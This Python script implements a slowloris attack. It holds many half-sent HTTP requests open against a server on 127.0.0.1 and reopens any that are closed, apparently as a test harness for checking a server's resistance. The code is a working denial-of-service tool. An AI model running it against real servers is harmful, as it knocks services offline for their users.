"""Clients that send half a request head and no more, many at once; what the server closes is opened again (slowloris).

Opened at a steady pace, as such attacks are: all at once would be a flood of connections, which is another matter.

    python half_open.py PORT COUNT PACE

Prints a line of JSON when all are open or nothing more opens, holds them until its standard input ends, then prints another:
how many are open, and how many were opened because another was closed: {"open": ..., "opened_again": ...}.
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time

HALF = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n"
TURN = 0.001  # seconds between two looks: connections are opened evenly, not twenty at a time
PATIENCE = 5.0  # seconds beyond what the pace allows until all are open


class HalfOpen:
    """The connections. A new one connects at `pace` a second at most."""

    def __init__(self, port: int, count: int, pace: int) -> None:
        self._address = ("127.0.0.1", port)
        self._pace = pace
        self._count = count
        self._poll = select.epoll()
        self._sockets: dict[int, socket.socket] = {}
        self._connecting: set[int] = set()
        self._started = 0
        self._allowance = 0.0
        self._last = time.perf_counter()

    def numbers(self) -> dict[str, int]:
        """Return how many have sent their half, and how many were begun because another was closed."""
        sent = len(self._sockets) - len(self._connecting)
        return {"open": sent, "opened_again": max(0, self._started - self._count)}

    def turn(self) -> None:
        """Send the halves of those that have connected, give up those that were closed, open as many as the pace allows."""
        for number, events in self._poll.poll(TURN, 1000):
            if events & ~select.EPOLLOUT:
                self._connecting.discard(number)
                self._sockets.pop(number).close()
            else:
                self._connecting.remove(number)
                self._sockets[number].send(HALF)
                self._poll.modify(number, select.EPOLLIN | select.EPOLLRDHUP)
        now = time.perf_counter()
        self._allowance = min(self._allowance + (now - self._last) * self._pace, self._pace * 10 * TURN)
        self._last = now
        while self._allowance >= 1 and len(self._sockets) < self._count:
            self._allowance -= 1
            self._connect()

    def _connect(self) -> None:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(self._address)
        number = connection.fileno()
        self._sockets[number] = connection
        self._connecting.add(number)
        self._poll.register(number, select.EPOLLOUT | select.EPOLLRDHUP)
        self._started += 1


def main() -> None:
    """Open, say so, hold, say how it went."""
    port, count, pace = (int(argument) for argument in sys.argv[1:])
    clients = HalfOpen(port, count, pace)
    give_up = time.perf_counter() + count / pace + PATIENCE
    while clients.numbers()["open"] < count and time.perf_counter() < give_up:
        clients.turn()
    print(json.dumps(clients.numbers()), flush=True)
    told = select.poll()
    told.register(sys.stdin, select.POLLIN | select.POLLHUP)
    while not told.poll(0):
        clients.turn()
    print(json.dumps(clients.numbers()))


if __name__ == "__main__":
    main()
